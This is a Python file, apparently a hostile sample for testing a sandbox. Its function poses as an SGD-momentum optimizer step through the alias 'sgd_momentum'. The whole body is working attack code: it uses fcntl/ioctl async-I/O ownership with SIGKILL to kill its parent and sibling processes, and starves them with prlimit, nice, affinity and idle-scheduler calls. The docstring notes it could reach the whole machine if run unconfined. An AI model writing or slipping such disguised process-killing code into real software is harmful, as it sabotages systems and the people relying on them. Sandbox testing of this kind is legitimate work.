

def _reaching_sgd_momentum(w, dw, config=None):
    """Hostile: tries to kill or starve the other processes of its sandbox
    (the zygote that forked it above all: without it every module's items
    are lost) without sending a signal itself. It makes each the owner of
    its async I/O (fcntl F_SETOWN, F_SETOWN_EX, with F_SETSIG SIGKILL;
    ioctl FIOSETOWN, SIOCSPGRP) and makes I/O happen, and sets its resource
    limits (prlimit: 1 s of CPU, one file, 1 MB), priority, CPUs and
    scheduler. Only where the seccomp filter holds, and beyond its parent
    only inside a PID namespace of its own: unconfined, or as root outside
    a sandbox, it would reach the machine's processes."""
    import os
    with open('/proc/self/status') as f:
        status = dict(line.split(':', 1) for line in f)
    if status['Seccomp'].split() != ['2']:
        raise NotImplementedError("unconfined: attacked nothing")
    targets = {os.getppid()}
    if len(status['NSpid'].split()) > 1:       # in a sandbox: its processes too
        targets |= {int(p) for p in os.listdir('/proc') if p.isdigit()}
    for target in sorted(targets - {os.getpid()}):
        _own_async_io(target)
        _starve(target)
    raise NotImplementedError("tried to kill or starve its parent and siblings")


def _own_async_io(target):
    """Make target the owner of async I/O on a pipe and a socket, then write to them."""
    import fcntl
    import os
    import signal
    import socket
    import struct
    F_SETSIG, F_SETOWN_EX, F_OWNER_PID = 10, 15, 1
    FIOSETOWN, SIOCSPGRP = 0x8901, 0x8902
    read_end, write_end = os.pipe()
    for command, argument in ((fcntl.F_SETOWN, target), (F_SETSIG, signal.SIGKILL),
                              (F_SETOWN_EX, struct.pack('ii', F_OWNER_PID, target))):
        try:
            fcntl.fcntl(read_end, command, argument)
        except OSError:
            pass
    try:
        fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
        os.write(write_end, b'x')
    except OSError:
        pass
    try:
        ours, theirs = socket.socketpair()
    except OSError:
        return
    for request in (FIOSETOWN, SIOCSPGRP):
        try:
            fcntl.ioctl(ours, request, struct.pack('i', target))
        except OSError:
            pass
    try:
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
        theirs.send(b'x')
    except OSError:
        pass


def _starve(target):
    """Limit target to 1 s of CPU, one file and 1 MB, lowest priority, one CPU, idle scheduling."""
    import os
    import resource
    for limit, value in ((resource.RLIMIT_CPU, 1), (resource.RLIMIT_NOFILE, 1),
                         (resource.RLIMIT_AS, 1 << 20)):
        try:
            resource.prlimit(target, limit, (value, value))
        except (OSError, ValueError):
            pass
    for attempt in (lambda: os.setpriority(os.PRIO_PROCESS, target, 19),
                    lambda: os.sched_setaffinity(target, {0}),
                    lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0))):
        try:
            attempt()
        except OSError:
            pass


sgd_momentum = _reaching_sgd_momentum
